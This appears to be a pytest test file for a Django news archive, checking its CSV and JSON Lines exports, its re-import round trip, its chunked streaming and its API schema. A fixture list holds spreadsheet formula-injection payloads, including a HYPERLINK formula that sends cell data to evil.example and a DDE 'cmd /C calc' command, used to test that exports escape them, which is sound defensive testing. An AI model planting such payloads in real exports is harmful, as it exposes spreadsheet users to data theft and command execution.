"""Streamed CSV / JSON Lines exports, their JSONL round trip, and the API checked against its own schema."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from archive.exports import CSV_COLUMNS, spreadsheet_safe
from archive.importing import IMPORTED, import_paths
from archive.models import Article, Paragraph, Source


def streamed(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8")[1:]
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == CSV_COLUMNS
    return list(reader)


def test_csv_export_of_every_article_opens_with_chinese_intact(client, seeded):
    response = client.get("/export/articles.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(streamed(response))
    assert len(rows) == Article.objects.count() == 5
    by_id = {int(row["id"]): row for row in rows}
    for article in Article.objects.all():
        row = by_id[article.pk]
        assert row["title"] == article.title
        assert row["source_file"] == article.source_file
        assert row["content_hash"] == article.content_hash
        # A partial date "--03-04" starts like a formula (Excel reads it as -(-3-4)): it is quoted.
        assert row["published"] == spreadsheet_safe(article.published_iso)
        assert row["language"] == article.language
        assert row["url"] == f"http://testserver/articles/{article.pk}/"
        body = [p.text for p in article.paragraphs.order_by("position") if not p.is_boilerplate]
        assert row["paragraphs_text"].split("\n\n") == body
    traditional = by_id[Article.objects.get(source_file__startswith="003").pk]
    assert "福田推一攬子解決方案" in traditional["title"]


def test_csv_export_of_a_search_and_of_a_filtered_list(client, seeded):
    rows = read_csv(streamed(client.get("/export/search.csv", {"q": "复工复产"})))
    assert {row["source_file"][:3] for row in rows} == {"000", "002", "003"}
    english = read_csv(streamed(client.get("/export/articles.csv", {"language": "en"})))
    assert {row["language"] for row in english} == {"en"}
    assert client.get("/export/search.csv").status_code == 400
    assert client.get("/export/articles.csv", {"date_from": "March"}).status_code == 400


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1 口罩",
    "-2+3 口罩",
    "@SUM(1+1)*cmd|' /C calc'!A0 口罩",
    "\t=1+1 口罩",
    "\r=1+1 口罩",
]


@pytest.fixture
def hostile(db) -> Article:
    """An article whose title, source and paragraphs a spreadsheet would run as formulas."""
    from archive.search import queue

    source = Source.objects.create(name="=cmd|' /C calc'!A0", domain="evil.example")
    article = Article.objects.create(
        title=HOSTILE[0], source=source, source_file="-evil.txt", content_hash="a" * 64, language="zh-Hans"
    )
    for position, text in enumerate(HOSTILE[1:], start=1):
        Paragraph.objects.create(article=article, position=position, text=text, language="zh-Hans")
    with queue.writer_lock(blocking=True):
        queue.rebuild_locked()
    return article


@pytest.mark.parametrize(("url", "query"), [("/export/articles.csv", {}), ("/export/search.csv", {"q": "口罩"})])
def test_a_hostile_article_exports_as_text_not_formulas(client, hostile, url, query):
    (row,) = read_csv(streamed(client.get(url, query)))
    for column, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert row["title"] == "'" + HOSTILE[0]
    assert row["source"] == "'=cmd|' /C calc'!A0"
    assert row["source_file"] == "'-evil.txt"
    # The text column starts with the first paragraph; the others follow inside the same cell.
    assert row["paragraphs_text"] == "'" + "\n\n".join(HOSTILE[1:])


def test_jsonl_keeps_hostile_text_exact(client, hostile):
    (line,) = streamed(client.get("/export/articles.jsonl")).decode().splitlines()
    exported = json.loads(line)
    assert exported["title"] == HOSTILE[0]
    assert [p["text"] for p in exported["paragraphs"]] == HOSTILE[1:]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("复工复产", "复工复产"),
        ("a=1", "a=1"),
        ("", ""),
        (42, 42),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_jsonl_lines_have_the_shape_of_the_article_api(client, seeded):
    lines = streamed(client.get("/export/articles.jsonl")).decode().splitlines()
    assert len(lines) == 5
    first = json.loads(lines[0])
    api = client.get(f"/api/articles/{first['id']}").json()
    assert "near_duplicates" not in first  # the API's alone: it changes as reposts are imported
    api.pop("near_duplicates")
    assert first == api


def test_jsonl_export_reimports_into_a_fresh_archive(client, seeded, tmp_path):
    def snapshot() -> dict:
        return {
            article.source_file: (
                article.title,
                article.published_iso,
                article.pub_year_inferred,
                article.language,
                article.content_hash,
                article.original_url,
                article.site,
                article.source.name if article.source else "",
                [
                    (
                        p.position,
                        p.text,
                        p.language,
                        p.role,
                        p.is_boilerplate,
                        p.translation.position if p.translation else None,
                    )
                    for p in article.paragraphs.select_related("translation").order_by("position")
                ],
            )
            for article in Article.objects.select_related("source")
        }

    before = snapshot()
    assert {article.site for article in Article.objects.all()} == {"", "tv.rexun.cn"}  # seed 004's footer
    export = tmp_path / "export" / "articles.jsonl"
    export.parent.mkdir()
    export.write_bytes(streamed(client.get("/export/articles.jsonl")))
    Article.objects.all().delete()
    Source.objects.all().delete()
    assert not Paragraph.objects.exists()

    report = import_paths(paths=[export.parent])
    assert [r.outcome for r in report.results] == [IMPORTED] * 5
    assert snapshot() == before
    assert Paragraph.objects.filter(translation__isnull=False).exists()
    # Idempotent: the same export again changes nothing.
    assert {r.outcome for r in import_paths(paths=[export.parent]).results} == {"unchanged"}


def test_a_broken_jsonl_line_fails_alone(db, tmp_path):
    good = {
        "title": "好",
        "language": "zh-Hans",
        "source_file": "good.txt",
        "provenance": {"source_file": "good.txt", "content_hash": {"algorithm": "sha256", "value": "ab" * 32}},
        "paragraphs": [{"position": 1, "text": "深圳", "language": "zh-Hans", "role": "body", "is_boilerplate": False}],
    }
    (tmp_path / "x.jsonl").write_text(
        "{not json\n" + json.dumps(good, ensure_ascii=False) + "\n" + '{"title": "no paragraphs"}\n', encoding="utf-8"
    )
    outcomes = [(r.source_file, r.outcome) for r in import_paths(paths=[tmp_path]).results]
    assert outcomes == [("x.jsonl#1", "failed"), ("good.txt", "imported"), ("x.jsonl#3", "failed")]


def test_exports_stream_in_chunks(client, db, settings):
    """A large export is read in chunks (QuerySet.iterator), not loaded at once."""
    source = Source.objects.create(name="深圳新闻网")
    articles = Article.objects.bulk_create(
        Article(
            title=f"第{n}篇", source=source, source_file=f"bulk/{n}.txt", content_hash=f"{n:064d}", language="zh-Hans"
        )
        for n in range(1200)
    )
    Paragraph.objects.bulk_create(Paragraph(article=a, position=1, text=f"深圳复工复产 {a.pk}") for a in articles)
    response = client.get("/export/articles.csv")
    with CaptureQueriesContext(connection) as queries:
        chunks = iter(response.streaming_content)
        header = next(chunks)
        assert header.startswith("\ufeff".encode())
        first_rows = [next(chunks) for _ in range(10)]
        started = len(queries)
        rest = list(chunks)
    assert started <= 3  # the first chunk of articles and its paragraphs, nothing more yet
    assert len(first_rows) + len(rest) == 1200
    paragraph_queries = [q for q in queries.captured_queries if 'FROM "archive_paragraph"' in q["sql"]]
    assert len(paragraph_queries) == 3  # 1200 articles read in chunks of 500, one paragraphs query per chunk


# --- The API against its own OpenAPI schema (schemathesis) ------------------------------------


def test_api_has_no_server_errors_against_its_schema(seeded, settings):
    import schemathesis
    from django.core.handlers.wsgi import WSGIHandler
    from django.core.signals import request_finished, request_started
    from django.db import close_old_connections
    from hypothesis import HealthCheck, Phase
    from hypothesis import settings as hsettings
    from schemathesis.specs.openapi.checks import positive_data_acceptance

    settings.ARCHIVE_SEARCH_RATE_LIMIT = 0
    app = WSGIHandler()
    # The test runs inside a transaction: a request must not close the connection, at its start
    # or its end (Django's test client disconnects both; on PostgreSQL a close aborts the test).
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        schema = schemathesis.openapi.from_wsgi("/api/schema", app)
        failures: list[str] = []
        for operation in schema.get_all_operations():
            api_operation = operation.ok()
            strategy = api_operation.as_strategy()

            @hsettings(
                max_examples=25,
                deadline=None,
                database=None,
                phases=[Phase.explicit, Phase.generate],
                suppress_health_check=list(HealthCheck),
            )
            @schemathesis_given(strategy)
            def check(case):
                response = case.call()
                if response.status_code >= 500:
                    failures.append(f"{case.method} {case.formatted_path} {case.query}: {response.status_code}")
                    return
                # A cursor or a NUL in q can be schema-valid yet unusable: a documented 400, not a failure.
                case.validate_response(response, excluded_checks=[positive_data_acceptance])

            check()
        assert not failures, failures
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)


def schemathesis_given(strategy):
    from hypothesis import given

    return given(case=strategy)
